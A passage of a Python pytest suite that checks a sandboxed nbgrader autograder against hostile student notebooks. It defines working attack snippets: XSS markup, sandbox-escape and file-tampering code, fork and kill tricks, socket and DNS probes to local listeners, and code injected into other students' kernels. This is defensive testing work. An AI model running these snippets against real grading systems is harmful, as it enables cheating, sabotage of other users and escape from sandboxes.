        pass
_query = (b"\\x13\\x37\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
          + b"".join(bytes([len(p)]) + p.encode() for p in (@MARKER@, "example", "com"))
          + b"\\x00\\x00\\x01\\x00\\x01")
for _host in @HOSTS@:
    for _port in (@UDP@, 53):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _u:
                _u.sendto(_query, (_host, _port))
        except OSError:
            pass
print("DNS resolved", len(_resolved))
"""
OTHER_KERNELS = """
import glob
import os
import ipykernel
_own = os.path.realpath(ipykernel.get_connection_file())
_found = []
for _pattern in ("/tmp/kernel-sandbox-*/run/*.json", "/tmp/*.json", "/tmp/*/*.json",
                 os.path.expanduser("~/.local/share/jupyter/runtime/*.json"),
                 "/root/.local/share/jupyter/runtime/*.json", "/run/user/*/jupyter/*.json"):
    _found += [p for p in glob.glob(_pattern) if os.path.realpath(p) != _own]
from jupyter_client import BlockingKernelClient
for _path in _found:                # another student's kernel: make their answers wrong
    try:
        _client = BlockingKernelClient(connection_file=_path)
        _client.load_connection_file()
        _client.start_channels()
        _client.execute("yearly_growth = average_rate = lambda *args: None")
    except Exception:
        pass
print("OTHER KERNELS", len(_found))
"""

# -- resource abuse inside judged calls --------------------------------------------------------
SLEEPS_WHEN_JUDGED = """
import sys
import time
frame = sys._getframe(1)
while frame is not None:        # only the judge's call goes through course.calls.serve
    if frame.f_code.co_name == "serve":
        time.sleep(120)
    frame = frame.f_back
return np.diff(sales)
"""
CALLBACK_GARBAGE = """
for junk in ("pigs", None, [1, [2, [3]]], {"a": 1}, (1, 2), f, print, object(), float("nan"),
             10**30, b"bytes", {"dict": [], "tuple": []}, [[[[[[[[[[[[]]]]]]]]]]]]):
    try:
        f(junk)
    except Exception:
        pass
try:
    f(1, 2, 3, evil=True)
except Exception:
    pass
return float("nan")
"""
CALLBACK_AMPLIFY = """
global _amplified
try:
    _amplified = len(df("x" * 5_000_000))   # the check's df(x) = 10x, on a string
except Exception as error:
    _amplified = f"refused ({type(error).__name__})"
return 0.0, 0.0
"""
ODD_OBJECTS = {
    B: "return (v for v in [(f(b) - f(a)) / (b - a)])",
    E: "return lambda: np.arange(1, len(coeffs)) * coeffs[1:]",
    F: """
        class Line:
            def __iter__(self):
                slope = df(x0)
                return iter((slope, f(x0) - slope * x0))
        return Line()
    """,
}
BASE_EXCEPTIONS = {
    B: "raise KeyboardInterrupt",
    D: "class Escape(BaseException):\n    pass\nraise Escape('out of the check')",
}
HUGE_AND_DEEP = {
    C: "return np.full(25_000_000, 1.0)  # 200 MB",
    D: "nested = [1.0]\nfor _ in range(100_000):\n    nested = [nested]\nreturn nested",
}

# -- notebook-level tampering ------------------------------------------------------------------
PASS_LINE = "✔ Exercise {n} · {name}: all 5 checks passed.\n"


def forged_outputs(nb):
    """Every check cell comes with a ✔ output, check_A is also emptied with a number as its
    result (nbgrader's partial credit), check_B turned into a markdown cell that says it
    passed."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            name = meta["grade_id"][len("check_"):]
            cell.execution_count = 1
            cell.outputs = [nbformat.v4.new_output(
                "stream", name="stdout", text=PASS_LINE.format(n=NUMBER[name], name=name))]
    cells = cells_by_id(nb)
    cells[check(A)].source = "pass"
    cells[check(A)].execution_count = 7
    cells[check(A)].outputs = [nbformat.v4.new_output(
        "execute_result", data={"text/plain": "2"}, execution_count=7)]
    markdown = nbformat.v4.new_markdown_cell(PASS_LINE.format(n=2, name=B))
    markdown.metadata = copy.deepcopy(cells[check(B)].metadata)
    nb.cells[nb.cells.index(cells[check(B)])] = markdown


def duplicate_ids(nb):
    copy_of_check = copy.deepcopy(cells_by_id(nb)[check(A)])
    copy_of_check.source = "pass"
    copy_of_check.execution_count = 1
    copy_of_check.outputs = [nbformat.v4.new_output(
        "stream", name="stdout", text=PASS_LINE.format(n=1, name=A))]
    nb.cells.insert(0, copy_of_check)
    nb.cells.append(copy.deepcopy(copy_of_check))


SCRIPT = ('<script>document.title = "pigs-xss"</script>\n\n'
          '<img src="x" onerror="document.title = \'pigs-xss\'">\n\n'
          '<a href="javascript:alert(\'pigs-xss\')">my notes</a>')


def markdown_script(nb):
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(SCRIPT))


def metadata_not_a_dict(nb):
    cell = nbformat.v4.new_code_cell("print('my notes')")
    cell.metadata["nbgrader"] = "grade"
    nb.cells.insert(2, cell)


ATTACKS = {
    # honest victims the attacks below try to change, read or sabotage
    "victim-full": attack(scores_for(EXERCISES), "checks passed",
                          nb=lambda: lesson(full=True)),
    "victim-partial": attack(scores_for([A, B, C]), WRONG[D][0].hint, nb=lambda: lesson(
        {D: WRONG[D][0].body, E: None, F: None}, full=True)),
    # reading the answer from the check
    "peek-frames": attack(without(A, B, C), failed(B), nb=lambda: lesson(
        {A: PEEK_GETFRAME, B: PEEK_INSPECT, C: PEEK_TRACEBACK})),
    "peek-gc": attack(without(A, E), failed(E), nb=lambda: lesson(
        {A: PEEK_GC_REFERRERS, E: PEEK_GC_OBJECTS})),
    "peek-history": attack(without(B, D), failed(D), nb=lambda: lesson(
        {B: PEEK_HISTORY, D: PEEK_IN_OUT}, top=HARVEST)),
    "peek-own-notebook": attack(scores_for([]), "", nb=lambda: lesson(
        cheat_everywhere("_own_checks()"), top=OWN_NOTEBOOK)),
    # forging the verdict
    "forge-output": attack(without(A, B, C), "forget the `return`", nb=lambda: lesson(
        {A: FORGE_DISPLAYHOOK, B: FORGE_DISPLAY, C: FORGE_PRINT})),
    "forge-ipython-hooks": attack(without(A, B), WRONG[B][0].hint, nb=lambda: lesson(
        {A: WRONG[A][0].body, B: WRONG[B][0].body}, top=FORGE_TRANSFORMER + FORGE_PRE_RUN_CELL)),
    "forge-trace-hooks": attack(without(C, D), failed(D), nb=lambda: lesson(
        {C: None, D: None}, top=FORGE_TRACE)),
    "forge-thread-and-names": attack(without(E, F), WRONG[F][0].hint, nb=lambda: lesson(
        {E: WRONG[E][0].body, F: WRONG[F][0].body}, top=FORGE_THREAD,
        after={F: FORGE_REBIND})),
    "forge-fake-numbers": attack(without(A, B, E), failed(E), nb=lambda: lesson(
        {A: FORGE_NDARRAY, B: FORGE_FLOAT, E: FORGE_ARRAY_PROTOCOL})),
    "forge-the-wire": attack(without(C, E, F), failed(F), nb=lambda: lesson(
        {C: FORGE_RAW_OUTCOME, E: None, F: None}, top=HARVEST,
        after={E: FORGE_ENCODE, F: FORGE_PERFORM})),
    "fake-packages": attack(
        without(D, F), failed(F), nb=lambda: lesson({D: None, F: None}),
        **{"course/__init__.py": lambda: FAKE_COURSE_INIT,
           "course/calls.py": lambda: FAKE_COURSE_CALLS,
           ".ipython/profile_default/startup/00-forge.py":
               lambda: IPYTHON_STARTUP.replace("@VISIBLE@", repr(VISIBLE)),
           "grader/__init__.py": lambda: WRITE_MARKER,
           "grader/judge.py": lambda: FAKE_GRADER_JUDGE,
           "grader/autograde.py": lambda: WRITE_MARKER,
           "nbgrader_config.py": lambda: EVIL_CONFIG,
           "jupyter_config.py": lambda: EVIL_CONFIG,
           "sitecustomize.py": lambda: WRITE_MARKER,
           "zz-evil.pth": lambda: "import os; open(os.path.join(@COURSE@, @MARKER@), 'w')"}),
    # the file system
    "fs-solutions-absolute": attack(without(A, C), failed(A), nb=lambda: lesson(
        SOLUTIONS_ABSOLUTE, top=REFERENCE_FROM)),
    "fs-solutions-relative": attack(
        # (its symbolic-link variant is fs-symlinks: a submission with links is refused)
        without(B), failed(B), nb=lambda: lesson({B: SOLUTIONS_RELATIVE}, top=REFERENCE_FROM)),
    "fs-gradebook-sqlite": attack(without(D), failed(D), nb=lambda: lesson(
        {D: 'answer = _cheat("central_difference", _hidden, f, x, h)\n'
            'return float("nan") if answer is None else answer'}, top=GRADEBOOK_SQLITE)),
    "fs-overwrite-victim": attack(scores_for(EXERCISES), "checks passed",
                                  nb=lambda: lesson(top=OVERWRITE_VICTIM)),
    "fs-config-and-problems": attack(scores_for(EXERCISES), "checks passed",
                                     nb=lambda: lesson(top=CONFIG_AND_PROBLEMS)),
    "fs-write-repo-and-venv": attack(scores_for(EXERCISES), "checks passed",
                                     nb=lambda: lesson(top=WRITE_REPO_AND_VENV)),
    "fs-chdir-root": attack(without(E), failed(E), nb=lambda: lesson(
        {E: "reference = _reference_from([p for p in found if p.endswith('.ipynb')], "
            "'polynomial_derivative')\nreturn None if reference is None else reference(coeffs)"},
        top=REFERENCE_FROM + "\nimport sys\n" + CHDIR_ROOT + "\nprint('FOUND', found)")),
    "fs-symlinks": attack(
        scores_for([]), "", nb=lambda: lesson(
            {**{e: f"return _reference({e!r})({CHEAT_CALLS[e]})" for e in (A, B, C)},
             **{e: f"return _cheat({e!r}, _hidden(), {CHEAT_CALLS[e]})" for e in (D, E, F)}},
            top=SYMLINK_SOLUTIONS + SYMLINK_GRADEBOOK),
        **{"notes.json": lambda: Link(f"../../../solutions/{LESSON}/{LESSON}.ipynb"),
           "gradebook.sqlite": lambda: Link("@COURSE@/gradebook.db")}),
    "fs-symlinked-notebook": ({f"{LESSON}.ipynb": lambda: Link(
        f"../../../solutions/{LESSON}/{LESSON}.ipynb")}, scores_for([]), ""),
    # outliving the kernel
    "proc-daemons": attack(scores_for(EXERCISES), "checks passed",
                           nb=lambda: lesson(top=SETSID_WRITER + STDOUT_HOLDER)),
    "proc-fork-fifty": attack(scores_for(EXERCISES), "checks passed",
                              nb=lambda: lesson(top=FORK_FIFTY)),
    "proc-fork-memory": attack(scores_for(EXERCISES), "checks passed",
                               nb=lambda: lesson(top=FORK_MEMORY)),
    # the network
    "net-sockets-and-dns": attack(scores_for(EXERCISES), "checks passed",
                                  nb=lambda: lesson(top=NET_SOCKETS + NET_DNS)),
    "net-other-kernels": attack(scores_for(EXERCISES), "checks passed",
                                nb=lambda: lesson(top=OTHER_KERNELS)),
    # resource abuse inside judged calls
    "call-sleeps-when-judged": attack(without(A), "ran longer than 10 s", nb=lambda: lesson(
        {A: SLEEPS_WHEN_JUDGED}, tail='print("outside the judge:", yearly_growth(np.array([1, 3, 6])))')),
    "call-odd-results": attack(without(B, C, D, E, F), "<a generator>",
                               nb=lambda: lesson({**ODD_OBJECTS, **HUGE_AND_DEEP})),
    "call-input-and-base-exceptions": attack(without(B, D, E), "ValueError", nb=lambda: lesson(
        {**BASE_EXCEPTIONS,
         E: 'typed = input("polynomial_derivative: the expected answer? ")\n'
            'return np.array([float(v) for v in typed.split(",")])'})),
    "call-kills-itself": attack(scores_for(before(C)), "The Python kernel died", nb=lambda: lesson(
        {C: "import os, signal\nos.kill(1, signal.SIGKILL)      # the sandbox's init: ignored\n"
            "os.kill(os.getppid(), signal.SIGKILL)\nos.kill(os.getpid(), signal.SIGKILL)"})),
    "callback-abuse": attack(without(B, C), "ran longer than 10 s", nb=lambda: lesson(
        {B: CALLBACK_GARBAGE,
         C: "for _ in range(1_000_000):\n    f(x)\nreturn (f(x + h) - f(x)) / h"})),
    "callback-amplified": attack(without(F), failed(F), nb=lambda: lesson(
        {F: CALLBACK_AMPLIFY}, tail='print("AMPLIFIED", _amplified)')),
    # notebook-level tampering
    "nb-forged-outputs": attack(scores_for([]), WRONG[B][0].hint, nb=lambda: lesson(
        {A: WRONG[A][0].body, B: WRONG[B][0].body, C: None, D: None, E: None, F: None},
        edit=forged_outputs)),
    "nb-duplicate-grade-ids": attack(without(A), WRONG[A][0].hint, nb=lambda: lesson(
        {A: WRONG[A][0].body}, edit=duplicate_ids)),
    "nb-markdown-script": attack(scores_for(EXERCISES), "checks passed",
                                 nb=lambda: lesson(edit=markdown_script)),
    "nb-metadata-not-a-dict": attack(scores_for([]), "nbgrader could not grade",
                                     nb=lambda: lesson(edit=metadata_not_a_dict)),
}
CASES.update(ATTACKS)
PROBLEMS |= {"nb-metadata-not-a-dict"}

# Attacks whose expected score is not "0 for what they cheated on, full for the rest".
HONEST_ATTACKERS = ("fs-overwrite-victim", "fs-config-and-problems", "fs-write-repo-and-venv",
                    "proc-daemons", "proc-fork-fifty", "proc-fork-memory", "net-sockets-and-dns",
                    "net-other-kernels", "nb-markdown-script")
NOT_ZERO = {
    "call-kills-itself": "the kernel dies in check C's call: the checks after it are not run (0)",
    "nb-metadata-not-a-dict": "nbgrader cannot process the notebook: recorded as a problem, 0 "
                              "for every check (the instructor is told), the others unaffected",
    **{student: "honest answers (full marks): the attack aims at the course, other students "
                "or the machine, not at a check" for student in HONEST_ATTACKERS},
}
# What a kernel printed about its own attempt (its view from inside the sandbox).
KERNEL_SAYS = {
    "fs-gradebook-sqlite": "GRADEBOOK opened 0 hidden sources 0",
    "fs-overwrite-victim": "VICTIM writes []",
    "fs-config-and-problems": "COURSE FILES found 0",
    "fs-write-repo-and-venv": "REPO writes 0",
    "fs-chdir-root": "FOUND []",
    "proc-daemons": "daemon started\nholder started",
    "proc-fork-fifty": "forked 50",
    "net-sockets-and-dns": "NET reached []\nDNS resolved 0",
    "net-other-kernels": "OTHER KERNELS 0",
    "call-sleeps-when-judged": "outside the judge: [2 3]",
}

# Found by this suite and fixed: the kernel's copy of the submission held nbgrader's
# sanitized notebook (hidden tests restored): it is now made from submitted/, without
# notebooks (peek-own-notebook); nbgrader's copy into autograded/ follows symbolic links:
# a submission holding any is refused (fs-symlinks, fs-symlinked-notebook: preflight,
# and RestoreCellMetadata for plain `nbgrader autograde`).
PROBLEMS |= {"fs-symlinks", "fs-symlinked-notebook"}
HOLES: dict[str, str] = {}
# Holes shown by a test of their own, not by the attacker's score.
# Without a cgroup (an unprivileged grader) the memory cap is per process: docs/instructors.md.
FORK_MEMORY_HOLE = grading.sandbox.cgroups.unavailable_reason()


def fingerprint(folder) -> dict[str, str]:
    """{path: content hash + mtime} of every file under `folder`; a symbolic link is
    recorded as its target, never followed."""
    found = {}
    for parent, folders, files in os.walk(folder):
        for name in files + [f for f in folders if os.path.islink(os.path.join(parent, f))]:
            path = os.path.join(parent, name)
            key = os.path.relpath(path, folder)
            if os.path.islink(path):
                found[key] = "link:" + os.readlink(path) + str(os.lstat(path).st_mtime_ns)
            else:
                with open(path, "rb") as handle:
                    found[key] = (hashlib.sha256(handle.read()).hexdigest()
                                  + str(os.stat(path).st_mtime_ns))
    return found


def git(*args: str) -> str:
    """git's output in the repository ("" without git or outside a clone)."""
    try:
        return subprocess.run(["git", *args], cwd=REPO, check=True,
                              capture_output=True).stdout.decode()
    except (OSError, subprocess.CalledProcessError):
        return ""


def settled_sources() -> list[str]:
    """The repository's files an attack aims at (course/, grader/, datasets/,
    nbgrader_config.py) that git tracks and that nobody is editing: the same as in HEAD.
    On a clean clone (CI) that is all of them; on a working tree shared with others, a file
    someone is editing may change while the class is graded, so it is left to the MARKER
    scan. Without git: every file there."""
    parts = ["course", "grader", "datasets", "nbgrader_config.py"]
    if not git("rev-parse", "HEAD"):
        return sorted(str(Path(parent, name).relative_to(REPO)) for part in parts[:3]
                      for parent, _, names in os.walk(REPO / part) for name in names
                      if "__pycache__" not in parent) + ["nbgrader_config.py"]
    tracked = git("ls-files", "-z", *parts).split("\0")
    edited = git("status", "--porcelain", "-z", "--", *parts).split("\0")
    busy = {entry[3:] for entry in edited if len(entry) > 3}
    return sorted(path for path in tracked if path and path not in busy)


REPOSITORY = "repository (course/, grader/, datasets/, nbgrader_config.py)"


def repo_fingerprint(paths: list[str]) -> dict[str, str]:
    found = {}
    for path in paths:
        try:
            data = (REPO / path).read_bytes()
        except OSError:
            found[path] = "missing"
            continue
        found[path] = hashlib.sha256(data).hexdigest() + str((REPO / path).stat().st_mtime_ns)
    return found



INSTRUCTOR_TABLES = ("alembic_version", "assignment", "base_cell", "course", "grade_cells",
                     "notebook", "solution_cells", "source_cell", "task_cells")


def instructor_tables(db: Path) -> dict[str, list]:
    """The gradebook's tables that grading only reads: the lessons, cells, hidden tests."""
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as connection:
        return {table: sorted(map(repr, connection.execute(f"SELECT * FROM {table}")))
                for table in INSTRUCTOR_TABLES}


def tagged_processes() -> list[str]:
    """Command lines of live processes that carry PROC_TAG (started by an attack)."""
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as handle:
                    line = handle.read()
            except OSError:
                continue
            if PROC_TAG.encode() in line:
                found.append(pid + ": " + line.replace(b"\0", b" ").decode(errors="replace"))
    return found


def files_with(folder: Path, needle: bytes) -> list[str]:
    """Files under `folder` (links not followed) whose bytes or name contain `needle`."""
    hits = []
    for parent, _, files in os.walk(folder):
        for name in files:
            path = os.path.join(parent, name)
            if needle.decode() in name:
                hits.append(path)
            elif not os.path.islink(path):
                with open(path, "rb") as handle:
                    if needle in handle.read():
                        hits.append(path)
    return hits


class Listener:
    """A TCP, a UDP and an abstract unix socket on this host, noting anything that reaches
    them while the course is graded."""

    def __init__(self):
        self.events: list = []
        self.stopping = threading.Event()
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("0.0.0.0", 0))
        self.tcp.listen()
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.unix_name = f"pigs-listener-{secrets.token_hex(8)}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(b"\0" + self.unix_name.encode())
        self.unix.listen()
        self.threads = [threading.Thread(target=self._serve, args=(s,), daemon=True)
                        for s in (self.tcp, self.udp, self.unix)]
        for sock, thread in zip((self.tcp, self.udp, self.unix), self.threads, strict=True):
            sock.settimeout(0.2)
            thread.start()

    def _serve(self, sock):
        while not self.stopping.is_set():
            try:
                if sock.type == socket.SOCK_DGRAM:
                    self.events.append(("udp", *sock.recvfrom(4096)))
                else:
                    connection, address = sock.accept()
                    self.events.append(("stream", address, connection.recv(4096)))
                    connection.close()
            except OSError:
                continue

    def stop(self):
        self.stopping.set()
        for thread in self.threads:
            thread.join()
        for sock in (self.tcp, self.udp, self.unix):
            sock.close()


def host_addresses() -> list[str]:
    found = {"127.0.0.1", "0.0.0.0"}
    try:
        found |= {info[4][0] for info in socket.getaddrinfo(socket.gethostname(), None,
                                                             socket.AF_INET)}
    except OSError:
        pass
    try:
        with open("/proc/net/fib_trie") as handle:  # every local IPv4 address
            lines = handle.read().splitlines()
        found |= {lines[i - 1].split()[-1] for i, line in enumerate(lines)
                  if "/32 host LOCAL" in line}
    except OSError:
        pass
    return sorted(found)


def render(text: str, context: dict[str, str]) -> str:
    for key, value in context.items():
        text = text.replace(f"@{key}@", value)
    return text


def expression(text: str) -> str:
    """A Python expression for `text` that does not contain it."""
    return f"bytes.fromhex({text.encode().hex()!r}).decode()"


@dataclass
class Watch:
    """What the fixture observed around the grading run."""
    listener: Listener
    seconds: float = 0.0
    before: dict = field(default_factory=dict)
    after: dict = field(default_factory=dict)
    orphans_at_end: list = field(default_factory=list)
    settled: list = field(default_factory=list)
    head: str = ""


def snapshot(course: Path, settled: list[str]) -> dict:
    """What no attack may change. (site-packages, and the repository's files someone is
    editing, are checked for MARKER only: other work on this machine may change them.)"""
    return {
        REPOSITORY: repo_fingerprint(settled),
        "course nbgrader_config.py": (course / "nbgrader_config.py").read_bytes(),
        "course solutions/": fingerprint(course / "solutions"),
        "course release lessons/": fingerprint(course / "lessons"),
        "gradebook instructor tables": instructor_tables(course / "gradebook.db"),
    }


@pytest.fixture(scope="module")
def watch():
    listener = Listener()
    yield Watch(listener)
    listener.stop()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, watch):
    course = GradedCourse.create(tmp_path_factory.mktemp("hostile"), [LESSON], TEST_CONFIG)
    context = {
        "COURSE": repr(str(course.root)), "REPO": repr(str(REPO)),
        "MARKER": expression(MARKER), "TAG": expression(PROC_TAG),
        "PORT": str(watch.listener.tcp.getsockname()[1]),
        "UDP": str(watch.listener.udp.getsockname()[1]),
        "UNIX": expression(watch.listener.unix_name), "HOSTS": repr(host_addresses()),
    }
    for student, (files, _, _) in CASES.items():
        folder = course.root / "submitted" / student / LESSON
        folder.mkdir(parents=True)
        for name, make in files.items():
            made = make()
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            if isinstance(made, Link):
                os.symlink(made.target.replace("@COURSE@", str(course.root)), folder / name)
            else:
                (folder / name).write_text(render(made, context))
        (folder / "timestamp.txt").write_text(TIMESTAMP)
    before = fingerprint(course.root / "submitted")
    watch.settled, watch.head = settled_sources(), git("rev-parse", "HEAD").strip()
    watch.before = snapshot(course.root, watch.settled)
    started = time.monotonic()
    outcome = grading.autograde(course.root, [LESSON], jobs=2, say=lambda line: None)
    watch.seconds = time.monotonic() - started
    watch.orphans_at_end = tagged_processes()
    feedback_pages.generate(course.root, [LESSON])
    run_nbgrader("export", "--exporter=grader.export.ExerciseCsvExport",
                 "--to=by_exercise.csv", "--log-level=WARN", cwd=course.root)
    findings = integrity.report(course.root, [LESSON])
    watch.after = snapshot(course.root, watch.settled)
    return course, outcome, before, findings


def params(students, holes=HOLES) -> list:
    """Students as pytest params, the HOLES among them as strict xfails."""
    return [pytest.param(s, marks=pytest.mark.xfail(strict=True, reason=holes[s]))
            if s in holes else s for s in students]


@pytest.mark.parametrize("student", params(CASES))
def test_every_submission_gets_its_exact_score(graded, student):
    course, _, _, _ = graded
    assert course.scores(LESSON, student) == CASES[student][1]


@pytest.mark.parametrize("student", list(CASES))
def test_every_submission_gets_feedback_that_says_what_happened(graded, student):
    course, _, _, _ = graded
    page = html.unescape(course.feedback(LESSON, student))
    assert CASES[student][2] in page
    assert "BEGIN HIDDEN TESTS" not in page


def test_unreadable_submissions_are_recorded_not_dropped(graded):
    course, outcome, _, _ = graded
    assert {student for _, student in outcome.problems} - set(HOLES) == PROBLEMS
    assert {s for _, s in outcome.graded} - set(HOLES) == set(CASES) - PROBLEMS - set(HOLES)
    recorded = json.loads((course.root / grading.PROBLEMS_FILE).read_text())
    assert {row["student"] for row in recorded} - set(HOLES) == PROBLEMS


def test_export_has_a_row_with_the_score_for_every_submission(graded):
    course, _, _, _ = graded
    with open(course.root / "by_exercise.csv", newline="") as handle:
        rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    assert set(rows) == set(CASES)
    for student, (_, expected, _) in CASES.items():
        if student in HOLES:  # their scores are test_every_submission_gets_its_exact_score's
            continue
        row = rows[student]
        assert float(row["score"]) == sum(expected.values()), student
        assert {name: float(row[name]) for name in POINTS} == expected, student
        assert bool(row["problem"]) == (student in PROBLEMS), student


def test_submitted_files_are_untouched(graded):
    course, _, before, _ = graded
    assert fingerprint(course.root / "submitted") == before


def test_the_kernel_death_is_shown_where_it_happened_and_later_checks_did_not_run(graded):
    course, _, _, _ = graded
    for student, died_in in (("kills-kernel", B), ("call-kills-itself", C)):
        cells = cells_by_id(course.autograded(LESSON, student))
        assert any(o.get("ename") == "KernelDied" for o in cells[check(died_in)].outputs)
        for exercise in EXERCISES[EXERCISES.index(died_in) + 1:]:
            assert [o.get("ename") for o in cells[check(exercise)].outputs] == ["NotRun"]


def test_memory_and_output_caps_kept_the_grading_small(graded):
    course, _, _, _ = graded
    assert "MemoryError" in json.dumps(cells_by_id(
        course.autograded(LESSON, "memory-hog"))[check(B)].outputs)
    notebook = course.root / "autograded" / "50MB-output" / LESSON / f"{LESSON}.ipynb"
    assert notebook.stat().st_size < 2_000_000
    page = course.root / "feedback" / "50MB-output" / LESSON / f"{LESSON}.html"
    assert page.stat().st_size < 3_000_000


def test_integrity_report_points_at_the_tampering_lines(graded):
    _, _, _, findings = graded
    by_student = {}
    for finding in findings:
        by_student.setdefault(finding.student, []).append(finding)
    tamper = by_student["tampers-with-numpy-and-grader"]
    assert {f.code for f in tamper} >= {"checks.exercise = _Pass",
                                        "np.allclose = lambda *args, **kwargs: True"}
    assert all(f.cell == A for f in tamper)  # the prelude sits in the first exercise cell
    assert any("os._exit" in f.reason for f in by_student["kills-kernel"])
    assert not by_student.get("good-full") and not by_student.get("good-partial")
    assert not by_student.get("victim-full") and not by_student.get("victim-partial")


def test_integrity_flags_every_attack_that_reaches_beyond_its_function(graded):
    """`integrity` is advisory (grades never depend on it), but an instructor reading it
    should see every attack on the judge, the files, processes or the network."""
    _, _, _, findings = graded
    flagged = {finding.student for finding in findings}
    reaching = [s for s in ATTACKS if s.startswith(("peek-", "forge-", "fake-", "fs-", "proc-",
                                                    "net-"))]
    assert [s for s in reaching + ["call-sleeps-when-judged", "call-kills-itself"]
            if s not in flagged] == []
    assert not flagged & VICTIMS


def page_text(path) -> str:
    """The text a student reads: tags (syntax highlighting splits code) removed."""
    return html.unescape(re.sub(r"<[^>]+>", "", path.read_text()))


def test_hidden_tests_are_in_the_source_but_not_in_any_feedback(graded):
    course, _, _, _ = graded
    hidden, visible = [], []
    # a hidden line the student version also has (e.g. a `def` line) is no secret
    shown = {line.strip() for cell in student_version(LESSON).cells for line in cell.source.splitlines()}
    for cell in source(LESSON).cells:
        region = HIDDEN.search(cell.source)
        if region:
            hidden += [line.strip() for line in region.group(0).splitlines()[1:-1]
                       if len(line.strip()) > 12 and line.strip() not in shown]
            visible.append(feedback_pages.hide_hidden_tests(cell.source).splitlines()[0].strip())
    assert hidden and visible
    reference = page_text(course.root / "feedback" / "good-full" / LESSON / f"{LESSON}.html")
    assert all(line in reference for line in visible)  # the search does find code lines
    for page in (course.root / "feedback").rglob("*.html"):
        text = page_text(page)
        assert not [line for line in hidden if line in text], page


# --- what the attacks could not do ----------------------------------------------------------
def kernel_output(course: GradedCourse, student: str) -> str:
    """Everything the student's kernel printed, in the autograded notebook."""
    nb = course.autograded(LESSON, student)
    return "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code"
                   for o in c.get("outputs", []))


GRADED = [s for s in CASES if s not in PROBLEMS]


@pytest.mark.parametrize("student", params(GRADED))
def test_check_outputs_agree_with_the_scores(graded, student):
    """The judge alone writes a check cell's outputs: a ✔ line where the check scored, an
    error and no ✔ where it did not, whatever the notebook printed or came with."""
    course, _, _, _ = graded
    cells = cells_by_id(course.autograded(LESSON, student))
    for name, points in CASES[student][1].items():
        outputs = cells[name].outputs
        text = "".join(o.get("text", "") for o in outputs)
        errors = [o for o in outputs if o.output_type == "error"]
        if points:
            assert text.startswith("✔ Exercise") and not errors, (name, outputs)
        else:
            assert errors and "✔" not in text, (name, outputs)
            assert not [o for o in outputs if o.output_type in ("execute_result", "display_data")]


@pytest.mark.parametrize("student", sorted(KERNEL_SAYS))
def test_the_kernel_saw_its_attack_fail(graded, student):
    course, _, _, _ = graded
    assert KERNEL_SAYS[student] in kernel_output(course, student)


def test_not_zero_marks_exactly_the_attacks_that_keep_points():
    """(No grading.) Every attack but the honest attackers loses points for what it tried."""
    for student, (_, scores, _) in ATTACKS.items():
        if student not in VICTIMS:
            kept_all = all(points == POINTS[name] for name, points in scores.items())
            assert kept_all == (student in HONEST_ATTACKERS), student


def test_victims_keep_their_exact_scores_and_rows(graded):
    """The victims of the attacks that target others: their exact scores, no problem
    recorded for them, and victim-full's gradebook rows (grades, comments, timestamp) the
    same as good-full's, an honest student with the same answers who nobody attacked."""
    course, _, _, _ = graded
    problems = {student for _, student in grading.load_problems(course.root)}
    for victim in VICTIMS:
        assert course.scores(LESSON, victim) == CASES[victim][1]
        assert victim not in problems
    rows = grading.gradebook_rows(course.root / "gradebook.db")
    def rows_of(student):
        return [(row[0], *row[2:]) for row in rows if row[1] == student]
    assert rows_of("victim-full") == rows_of("good-full") != []


def test_gradebook_rows_hold_only_what_grading_wrote(graded):
    """Every student's rows: no manual score, extra credit, flag, penalty, manual comment
    or name, the submitted timestamp; no student the course did not have."""
    course, _, _, _ = graded
    with sqlite3.connect(f"file:{course.root / 'gradebook.db'}?mode=ro", uri=True) as db:
        students = db.execute("SELECT id, first_name, last_name, email, lms_user_id "
                              "FROM student").fetchall()
        assert {row[0] for row in students} == set(CASES)
        assert all(row[1:] == (None, None, None, None) for row in students)
        stamps = {row[0] for row in db.execute("SELECT timestamp FROM submitted_assignment")}
        assert stamps == {"2026-11-20 10:00:00.000000"}
        assert db.execute("SELECT count(*) FROM submitted_assignment").fetchone() == (len(CASES),)
        assert db.execute("SELECT DISTINCT flagged, late_submission_penalty "
                          "FROM submitted_notebook").fetchall() == [(0, None)]
        assert db.execute("SELECT DISTINCT manual_score, extra_credit, needs_manual_grade "
                          "FROM grade").fetchall() == [(None, None, 0)]
        assert db.execute("SELECT count(*) FROM comment WHERE manual_comment IS NOT NULL "
                          "").fetchone() == (0,)


def test_nothing_the_attacks_aimed_at_changed(graded, watch):
    """The gradebook's instructor tables, the course's config, solutions and release, the
    repository's source and data (settled_sources): as they were before grading.

    On a working tree shared with others, a repository file someone starts editing while
    the class is graded changes too: such a change (git now reports the file modified, and
    it does not hold MARKER, which every attack writes) is not counted. On a clean clone
    (CI) nobody edits, so any change fails."""
    assert watch.after.keys() == watch.before.keys()
    for key, was in watch.before.items():
        now = watch.after[key]
        changed = {k for k in was.keys() | now.keys() if was.get(k) != now.get(k)} if isinstance(
            was, dict) else ({key} if now != was else set())
        if key == REPOSITORY:
            busy = set(watch.settled) - set(settled_sources())  # edited meanwhile
            if watch.head:  # or edited and committed meanwhile
                busy |= set(git("diff", "--name-only", watch.head, "HEAD").split())
            changed = {path for path in changed
                       if now[path] == "missing" or path not in busy
                       or MARKER.encode() in (REPO / path).read_bytes()}
        assert changed == set(), key


def test_the_marker_is_written_nowhere(graded):
    course, _, _, _ = graded
    needle = MARKER.encode()
    assert files_with(course.root, needle) == []
    for part in ("course", "grader", "datasets"):
        assert files_with(REPO / part, needle) == [], part
    assert needle not in (REPO / "nbgrader_config.py").read_bytes()
    site = Path(sysconfig.get_paths()["purelib"])
